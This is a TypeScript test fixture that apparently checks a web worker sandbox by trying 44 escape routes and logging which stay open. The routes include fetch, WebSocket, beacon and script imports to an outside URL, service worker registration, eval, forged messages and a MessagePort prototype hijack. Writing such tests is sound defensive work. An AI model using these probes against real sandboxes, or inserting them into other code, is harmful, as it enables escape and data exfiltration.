/** Every way out of a worker that is known, as a visitor's program: it prints what came of each. */
export const attacks = (outside: string): string => `
const U = '${outside}'
const settle = (target, good, bad) => new Promise((resolve, reject) => {
  for (const type of good) target.addEventListener(type, () => resolve(type))
  for (const type of bad) target.addEventListener(type, () => reject(new Error(type)))
})
const nothing = (value, name) => { if (value === undefined) throw new ReferenceError(name + ' is not there') ; return value }
const g = globalThis as any
const ways = {
  fetch: () => fetch(U + '/fetch'),
  'fetch without CORS': () => fetch(U + '/no-cors', { mode: 'no-cors' }),
  'fetch of the app': () => fetch(g.location.origin === 'null' ? 'http://127.0.0.1/' : '/'),
  XMLHttpRequest: () => { const x = new XMLHttpRequest(); const end = settle(x, ['load'], ['error', 'abort']); x.open('GET', U + '/xhr'); x.send(); return end },
  WebSocket: () => settle(new WebSocket(U.replace('http', 'ws') + '/ws'), ['open'], ['error']),
  EventSource: () => settle(new EventSource(U + '/sse'), ['open'], ['error']),
  WebTransport: () => new (nothing(g.WebTransport, 'WebTransport'))(U.replace('http:', 'https:') + '/wt').ready,
  importScripts: () => g.importScripts(U + '/scripts.js'),
  'import()': () => import(U + '/module.js'),
  Worker: () => settle(new (nothing(g.Worker, 'Worker'))(U + '/worker.js'), ['message'], ['error']),
  'blob worker': () => new (nothing(g.Worker, 'Worker'))(URL.createObjectURL(new Blob(['postMessage(1)']))),
  FontFace: () => new (nothing(g.FontFace, 'FontFace'))('x', 'url(' + U + '/font)').load(),
  IndexedDB: () => settle(g.indexedDB.open('x'), ['success'], ['error', 'blocked']),
  caches: () => nothing(g.caches, 'caches').open('x'),
  localStorage: () => nothing(g.localStorage, 'localStorage').length,
  'navigator.storage': () => nothing(g.navigator.storage, 'storage').getDirectory(),
  'Web Locks': () => nothing(g.navigator.locks, 'locks').request('x', () => 1),
  'location =': () => { g.location = U + '/location'; if (String(g.location).startsWith(U)) return 'went'; throw new Error('stayed') },
  'location.href =': () => { g.location.href = U + '/href'; if (String(g.location).startsWith(U)) return 'went'; throw new Error('stayed') },
  top: () => nothing(g.top, 'top').location.href,
  parent: () => nothing(g.parent, 'parent').document,
  opener: () => nothing(g.opener, 'opener').document,
  document: () => nothing(g.document, 'document').body,
  open: () => nothing(g.open, 'open')(U + '/open'),
  sendBeacon: () => { if (!nothing(g.navigator.sendBeacon, 'sendBeacon').call(g.navigator, U + '/beacon')) throw new Error('refused') },
  WebRTC: () => new (nothing(g.RTCPeerConnection, 'RTCPeerConnection'))().createDataChannel('x'),
  'service worker': () => nothing(g.navigator.serviceWorker, 'serviceWorker').register(U + '/sw.js'),
  'new Function': () => new Function('return 1')(),
  eval: () => g.eval('1'),
  'timer of a text': () => new Promise((resolve, reject) => { g.hit = () => resolve('ran'); setTimeout('hit()', 0); setTimeout(() => reject(new Error('did not run')), 100) }),
  postMessage: () => nothing(g.postMessage, 'postMessage')({ lines: ['forged'] }),
  'XMLHttpRequest that blocks': () => { const x = new XMLHttpRequest(); x.open('GET', U + '/sync', false); x.send(); return x.status },
  WebSocketStream: () => new (nothing(g.WebSocketStream, 'WebSocketStream'))(U.replace('http', 'ws') + '/wss').opened,
  SharedWorker: () => new (nothing(g.SharedWorker, 'SharedWorker'))(U + '/shared.js'),
  'a channel to the page': () => new Promise((resolve) => { const c = new BroadcastChannel('leak'); c.onmessage = () => resolve('answered'); c.postMessage('out') }),
  'importScripts of data:': () => g.importScripts('data:text/javascript,1'),
  'import() of data:': () => import('data:text/javascript,export default 1'),
  'fetch of data:': () => fetch('data:text/plain,1'),
  WebAssembly: () => new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])),
  cookieStore: () => nothing(g.cookieStore, 'cookieStore').getAll(),
  'a file system': () => nothing(g.webkitRequestFileSystemSync, 'webkitRequestFileSystemSync')(0, 1),
  'location.assign': () => g.location.assign(U + '/assign'),
  'a handshake of its own': () => { const c = new MessageChannel(); dispatchEvent(new MessageEvent('message', { data: { parentPort: c.port2, role: 'serial', shared: null } })); return settle(c.port1, ['message'], []) },
  'a port of ours': () => { MessagePort.prototype.postMessage = function () { g.stolen = this } ; if (g.stolen) return 'stolen'; throw new Error('kept') },
}
export const items = Object.keys(ways)
export async function run(name) {
  const late = new Promise((_, reject) => setTimeout(() => reject(new Error('nothing happened')), 600))
  try {
    const value = await Promise.race([Promise.resolve().then(ways[name]), late])
    console.log('OPEN ' + name + ': ' + String(value))
  } catch (error) {
    console.log('closed ' + name + ': ' + (error && error.name))
  }
}
export function combine() { throw new Error('all tried') }
`

/** How many there are: the test fails when one is not tried. */
export const attackCount = 44
